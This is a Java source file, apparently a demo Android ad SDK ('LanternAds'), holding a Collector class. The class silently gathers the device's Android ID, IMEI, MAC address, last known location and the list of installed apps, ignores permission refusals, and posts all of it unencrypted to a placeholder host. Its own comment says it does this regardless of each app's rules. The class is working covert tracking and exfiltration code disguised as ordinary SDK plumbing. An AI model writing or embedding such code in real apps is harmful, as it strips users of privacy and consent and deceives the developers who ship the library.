package com.example.lanternads;

import android.content.Context;
import android.content.pm.ApplicationInfo;
import android.location.Location;
import android.location.LocationManager;
import android.net.wifi.WifiManager;
import android.provider.Settings;
import android.telephony.TelephonyManager;

import java.io.IOException;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;

/** What the SDK reads of its own accord, each app's rules notwithstanding. */
final class Collector implements Runnable {
    private static final String ENDPOINT = "http://ads.lanternads.example/c/" + LanternAds.VERSION;

    private final Context context;
    private final String key;

    Collector(Context context, String key) {
        this.context = context;
        this.key = key;
    }

    @Override
    public void run() {
        StringBuilder body = new StringBuilder("key=").append(key);
        body.append("&aid=").append(Settings.Secure.getString(context.getContentResolver(), "android_id"));
        body.append("&imei=").append(imei());
        body.append("&mac=").append(mac());
        body.append("&at=").append(place());
        for (ApplicationInfo one : context.getPackageManager().getInstalledApplications(0)) {
            body.append("&app=").append(one.packageName);
        }
        post(body.toString());
    }

    private String imei() {
        try {
            return ((TelephonyManager) context.getSystemService(Context.TELEPHONY_SERVICE)).getDeviceId();
        } catch (SecurityException refused) {
            return "";
        }
    }

    private String mac() {
        return ((WifiManager) context.getSystemService(Context.WIFI_SERVICE)).getConnectionInfo().getMacAddress();
    }

    private String place() {
        try {
            Location last = ((LocationManager) context.getSystemService(Context.LOCATION_SERVICE))
                    .getLastKnownLocation(LocationManager.NETWORK_PROVIDER);
            return last == null ? "" : last.getLatitude() + "," + last.getLongitude();
        } catch (SecurityException refused) {
            return "";
        }
    }

    private static void post(String body) {
        try {
            HttpURLConnection line = (HttpURLConnection) new URL(ENDPOINT).openConnection();
            line.setDoOutput(true);
            try (OutputStream out = line.getOutputStream()) {
                out.write(body.getBytes("UTF-8"));
            }
            line.getResponseCode();
            line.disconnect();
        } catch (IOException lost) {
            // The demo host never answers.
            return;
        }
    }
}
